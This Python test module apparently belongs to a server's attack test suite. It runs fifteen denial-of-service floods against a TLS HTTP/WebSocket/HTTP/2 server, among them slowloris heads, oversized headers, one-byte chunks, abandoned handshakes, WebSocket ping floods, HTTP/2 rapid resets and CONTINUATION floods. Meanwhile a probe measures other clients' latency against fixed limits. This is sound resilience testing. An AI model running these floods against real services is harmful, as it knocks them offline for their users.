"""Class d: many connections, pieces or frames at once for some seconds, while a probe measures other clients' waits.

Each flood is a function that runs in a separate process and ends by itself.
"""

import base64
import multiprocessing
import os
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Final

from benchmarks.loop_fuzz.probe import Probe, Wait

from tests.attack.report import Count
from tests.attack.server import Attacked
from tests.attack.wire import Address, context

SECONDS: Final = 5.0
P99_MS_MAX: Final = 100.0
WAIT_MS_MAX: Final = 500.0
WATCH = "/api/v1/namespaces/mine/configmaps?watch=1&timeoutSeconds=20"
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Flood = Callable[[Address, float], None]


def connected(address: Address, *protocols: str, receive_buffer_bytes: int = 0) -> ssl.SSLSocket:
    """Return a TLS connection. `receive_buffer_bytes`: size of the kernel's buffer; 0 for the default."""
    sock = socket.socket()
    if receive_buffer_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer_bytes)
    sock.settimeout(10)
    sock.connect((address.host, address.port))
    return context(*protocols).wrap_socket(sock)


@contextmanager
def _many(address: Address, count: int, *protocols: str) -> Iterator[list[ssl.SSLSocket]]:
    opened = [connected(address, *protocols) for _ in range(count)]
    try:
        yield opened
    finally:
        for sock in opened:
            sock.close()


def _repeated(seconds: float) -> Iterator[int]:
    until, number = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        yield number
        number += 1


def slow_heads(address: Address, seconds: float) -> None:
    """Send one byte of a head at a time on many connections."""
    head = b"GET /livez HTTP/1.1\r\nX: " + b"a" * 10_000
    with _many(address, 300) as opened:
        for number in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    sock.send(head[number : number + 1])


def long_heads(address: Address, seconds: float) -> None:
    """Send heads of almost 1 MiB in small pieces, which a server must not search from their start again and again."""
    with _many(address, 20) as opened:
        for sock in opened:
            sock.send(b"GET /livez HTTP/1.1\r\n")
        for _ in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    sock.send(b"a: " + b"b" * 100 + b"\r\n")


def long_targets(address: Address, seconds: float) -> None:
    """Send request lines of 1 MB, all of them escapes, without credentials."""
    request = b"GET /api/v1/pods?labelSelector=" + b"%25" * 300_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n"
    with _many(address, 2) as opened:
        for _ in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    sock.sendall(request)
                    sock.recv(1 << 16)


def tiny_records(address: Address, seconds: float) -> None:
    """Send a body in TLS records of one byte, and in chunks of one byte."""
    head = b"POST /api/v1/namespaces/mine/configmaps HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer token-0\r\n"
    with _many(address, 20) as opened:
        for sock in opened:
            sock.send(head + b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    for _ in range(20):
                        sock.send(b"1\r\na\r\n")


def chunk_extensions(address: Address, seconds: float) -> None:
    """Send chunks of one byte with long extensions, and long trailers."""
    head = b"POST /api/v1/namespaces/mine/configmaps HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer token-0\r\n"
    with _many(address, 10) as opened:
        for sock in opened:
            sock.send(head + b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    sock.send(b"1;" + b"x" * 8000 + b"\r\na\r\n")


def idle_connections(address: Address, seconds: float) -> None:
    """Hold many connections that send nothing."""
    with _many(address, 1500):
        time.sleep(seconds / 2)


def cut_handshakes(address: Address, seconds: float) -> None:
    """Begin TLS handshakes and go away."""
    for _ in _repeated(seconds):
        outgoing = ssl.MemoryBIO()
        client = context().wrap_bio(ssl.MemoryBIO(), outgoing)
        with suppress(ssl.SSLWantReadError):
            client.do_handshake()
        hello = outgoing.read()
        for _ in range(20):
            with suppress(OSError), socket.create_connection((address.host, address.port)) as sock:
                sock.send(hello)


def _websocket_watches(address: Address, count: int) -> list[ssl.SSLSocket]:
    opened = []
    for _ in range(count):
        sock = connected(address)
        key = base64.b64encode(os.urandom(16)).decode()
        sock.send(
            f"GET {WATCH} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer token-0\r\nConnection: Upgrade\r\n"
            f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        if not sock.recv(4096).startswith(b"HTTP/1.1 101"):
            raise RuntimeError("no WebSocket")
        sock.settimeout(0.01)
        opened.append(sock)
    return opened


def _frame(opcode: int, payload: bytes, last: bool = True) -> bytes:
    size = len(payload)
    length = bytes((128 | size,)) if size < 126 else b"\xfe" + struct.pack(">H", size)
    return bytes((opcode | (128 if last else 0),)) + length + b"\0\0\0\0" + payload


def _websocket_flood(address: Address, seconds: float, frames: bytes) -> None:
    opened = _websocket_watches(address, 20)
    for _ in _repeated(seconds):
        for sock in opened:
            with suppress(OSError):
                sock.send(frames)
    for sock in opened:
        sock.close()


def websocket_pings(address: Address, seconds: float) -> None:
    """Send PING frames on watches, and never read the answers."""
    _websocket_flood(address, seconds, _frame(9, b"a") * 200)


def websocket_fragments(address: Address, seconds: float) -> None:
    """Send a message without an end, in empty and tiny fragments."""
    _websocket_flood(address, seconds, _frame(0, b"", last=False) * 100 + _frame(0, b"a", last=False) * 100)


def unfinished_upgrades(address: Address, seconds: float) -> None:
    """Begin upgrades whose body or key never comes."""
    with _many(address, 300) as opened:
        for sock in opened:
            sock.send(f"GET {WATCH} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n".encode())
        for _ in _repeated(seconds):
            for sock in opened:
                with suppress(OSError):
                    sock.send(b"Sec-WebSocket-Key: a\r\n")
            time.sleep(0.05)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """Return a header field that HPACK does not compress. The value has at most 126 bytes."""
    return b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


REQUEST: Final = b"".join(
    literal(name, value)
    for name, value in (
        (":method", "GET"),
        (":scheme", "https"),
        (":path", "/api/v1/namespaces/mine/configmaps"),
        (":authority", "a"),
        ("authorization", "Bearer token-0"),
    )
)
SETTINGS: Final = frame(4, 0, 0)


def _h2_flood(address: Address, seconds: float, count: int, frames: Callable[[int], bytes], begin: bytes = b"") -> None:
    opened: list[ssl.SSLSocket] = []
    streams: dict[int, int] = {}
    for _ in _repeated(seconds):
        while len(opened) < count:
            sock = connected(address, "h2")
            sock.settimeout(0.01)
            sock.send(PREFACE + (begin or SETTINGS))
            opened.append(sock)
            streams[id(sock)] = 1
        for sock in list(opened):
            try:
                sock.send(frames(streams[id(sock)]))
                streams[id(sock)] += 200
            except OSError:
                opened.remove(sock)
    for sock in opened:
        sock.close()


def rapid_resets(address: Address, seconds: float) -> None:
    """Open streams and reset them at once; connect again when the server has enough."""
    _h2_flood(
        address,
        seconds,
        10,
        lambda first: b"".join(
            frame(1, 5, number, REQUEST) + frame(3, 0, number, b"\0\0\0\x08") for number in range(first, first + 200, 2)
        ),
    )


def continuations(address: Address, seconds: float) -> None:
    """Send header blocks without an end, in CONTINUATION frames of a few bytes."""
    _h2_flood(
        address,
        seconds,
        10,
        lambda first: (frame(1, 1, 1, REQUEST) if first == 1 else b"") + frame(9, 0, 1, literal("a", "b")) * 100,
    )


def closed_windows(address: Address, seconds: float) -> None:
    """Request lists on many streams whose window is closed, so that no response can be sent."""
    closed = frame(4, 0, 0, struct.pack(">HI", 4, 0))
    _h2_flood(
        address,
        seconds,
        20,
        lambda first: (
            b"".join(frame(1, 5, number, REQUEST) for number in range(first, first + 100, 2))
            if first < 400
            else frame(8, 0, 1, b"\0\0\0\x01")
        ),
        closed,
    )


def settings_changes(address: Address, seconds: float) -> None:
    """Change the header table and the window up and down."""
    one = struct.pack(">HIHI", 1, 0, 4, 1) + struct.pack(">HIHI", 1, 65536, 4, 2**31 - 1)
    _h2_flood(address, seconds, 10, lambda first: frame(4, 0, 0, one) * 50)


def refused_streams(address: Address, seconds: float) -> None:
    """Send more streams than the server permits, without credentials."""
    request = REQUEST[: REQUEST.index(b"\x00\x0dauthorization")]
    _h2_flood(
        address,
        seconds,
        5,
        lambda first: b"".join(frame(1, 5, number, request) for number in range(first, first + 200, 2)),
    )


FLOODS: Final[tuple[Flood, ...]] = (
    slow_heads,
    long_heads,
    long_targets,
    tiny_records,
    chunk_extensions,
    idle_connections,
    cut_handshakes,
    websocket_pings,
    websocket_fragments,
    unfinished_upgrades,
    rapid_resets,
    continuations,
    closed_windows,
    settings_changes,
    refused_streams,
)


def judge(waits: list[Wait]) -> str:
    """Return what is wrong with the waits of the probe. A wait counts as the server's processor time during it."""
    if not waits:
        return "the probe got no answer"
    costs = sorted(min(wait.ms, wait.loop_ms) for wait in waits)
    p99, longest = costs[int(len(costs) * 0.99)], costs[-1]
    if p99 > P99_MS_MAX or longest > WAIT_MS_MAX:
        return f"p99 {p99:.0f} ms, longest {longest:.0f} ms"
    return ""


def flood(attacked: Attacked, seconds: float = SECONDS, floods: tuple[Flood, ...] = FLOODS) -> Count:
    """Run the floods one after another."""
    count = Count("d: floods")
    spawn = multiprocessing.get_context("spawn")
    for one in floods:
        before = attacked.server.resident_mb()
        with Probe(attacked.server.target, attacked.server.pid) as probe:
            process = spawn.Process(target=one, args=(attacked.address, seconds), daemon=True)
            process.start()
            process.join(seconds * 10 + 30)
            ended = process.exitcode == 0
            process.kill()
        waits = list(probe.waits)
        after = attacked.server.resident_mb()
        longest = max((min(wait.ms, wait.loop_ms) for wait in waits), default=0)
        print(
            f"    {one.__name__:24} {len(waits):6} requests, longest {max(w.ms for w in waits):5.0f} ms "
            f"({longest:4.0f} ms of the server), {before:.0f} to {after:.0f} MB",
            flush=True,
        )
        count.note(one.__name__, True, judge(waits) or ("" if ended else "the flood did not end by itself"))
    return count
